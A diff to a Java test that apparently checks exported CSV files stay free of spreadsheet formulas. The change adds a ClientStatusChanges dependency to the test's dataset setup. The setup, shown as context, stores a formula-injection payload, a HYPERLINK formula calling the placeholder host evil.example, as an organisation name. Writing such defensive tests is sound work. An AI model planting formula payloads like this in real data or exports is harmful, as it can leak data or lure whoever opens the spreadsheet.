@@ -22,6 +22,7 @@ import org.reach.accounts.Accounts;
 import org.reach.accounts.ApiTokens;
 import org.reach.accounts.SignIn;
 import org.reach.clients.ClientRegistry;
+import org.reach.clients.ClientStatusChanges;
 import org.reach.organisations.OrganisationDirectory;
 import org.reach.organisations.OrganisationForm;
 import org.reach.organisations.Site;
@@ -55,6 +56,7 @@ class ExportedCsvRunsNoFormulaTest {
     @Autowired SignIn signIn;
     @Autowired ApiTokens tokens;
     @Autowired ClientRegistry clients;
+    @Autowired ClientStatusChanges statusChanges;
     @Autowired Encounters encounters;
     @Autowired Referrals referrals;
     @Autowired Indicators indicators;
@@ -71,7 +73,7 @@ class ExportedCsvRunsNoFormulaTest {
         organisation = "=HYPERLINK(\"http://evil.example/" + world.marker + "\")";
         directory.updateOrganisation(system, world.home.id(), new OrganisationForm(organisation, world.home.countryCode(),
                 world.home.languages(), world.home.programmeId()));
-        new IndicatorDataset(world, clients, encounters, referrals, indicators,
+        new IndicatorDataset(world, clients, statusChanges, encounters, referrals, indicators,
                 signIn.reload(world.foreignManager.id()).orElseThrow(), signIn.reload(world.foreignPeer.id()).orElseThrow());
     }
 
